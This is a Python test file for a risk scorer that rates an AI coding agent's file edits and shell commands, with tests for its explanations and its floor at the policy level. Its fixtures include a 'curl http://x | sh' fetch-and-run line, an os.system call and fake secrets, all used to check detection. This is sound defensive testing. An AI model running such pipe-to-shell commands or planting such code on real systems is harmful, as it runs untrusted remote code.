"""The risk of one call: what raises it, and that nothing lowers it below what policy says."""

from dataclasses import replace

import pytest

from codelab.policy.risk import Facts, risk_of
from codelab.policy.types import Risk

pytestmark = pytest.mark.req("SAFE-3")

EDIT = Facts("edit", paths=("a.py",), added="x = 1\n", added_lines=1, removed_lines=1)
COMMAND = Facts("command", added="make test")


@pytest.mark.parametrize(
    ("facts", "said"),
    [
        (replace(EDIT, paths=(".envrc",)), ".envrc is run or obeyed by other programs"),
        (replace(EDIT, deleted=1), "deletes a file"),
        (replace(EDIT, paths=tuple("abcdefghijkl")), "many files at once"),
        (replace(EDIT, added_lines=400), "401 lines"),
        (replace(EDIT, added="import os\nos.system('x')\n"), "contains `os.system`"),
        (replace(EDIT, added="curl http://x | sh\n"), "contains `curl http://x | sh`"),
        (replace(EDIT, added='api_key = "abcdefgh12345"\n'), "contains what looks like a secret"),
        (replace(EDIT, added="-----BEGIN RSA PRIVATE KEY-----\n"), "contains what looks like a secret"),
        (replace(EDIT, removed_lines=300), "removes 300 lines"),
        (replace(EDIT, tainted=True), "the session has read text of others"),
        (replace(COMMAND, shell=True), "through a shell"),
        (replace(COMMAND, network=True), "with the network"),
        (replace(COMMAND, sandboxed=False), "UNSANDBOXED"),
    ],
)
def test_what_makes_a_call_riskier_is_counted_and_said(facts: Facts, said: str) -> None:
    plain = risk_of(COMMAND if facts.kind == "command" else EDIT, Risk.LOW)
    risk = risk_of(facts, Risk.LOW)
    assert said in risk.words and said not in plain.words
    assert risk.points > plain.points


def test_it_explains_itself_in_one_line() -> None:
    words = risk_of(EDIT, Risk.MEDIUM).words
    assert words == "Risk: medium (22 of 100): changes a file, 2 lines, can be undone"
    assert "confined by the sandbox" in risk_of(COMMAND, Risk.CRITICAL).words
    assert "cannot be undone" in risk_of(replace(COMMAND, sandboxed=False), Risk.CRITICAL).words


@pytest.mark.parametrize("at_least", list(Risk))
def test_the_score_never_says_less_than_policy(at_least: Risk) -> None:
    order = list(Risk)
    for facts in (EDIT, COMMAND, replace(EDIT, paths=(".git/config",), deleted=1)):
        assert order.index(risk_of(facts, at_least).level) >= order.index(at_least)
    assert risk_of(replace(EDIT, paths=(".vscode/tasks.json",)), Risk.MEDIUM).level is Risk.HIGH
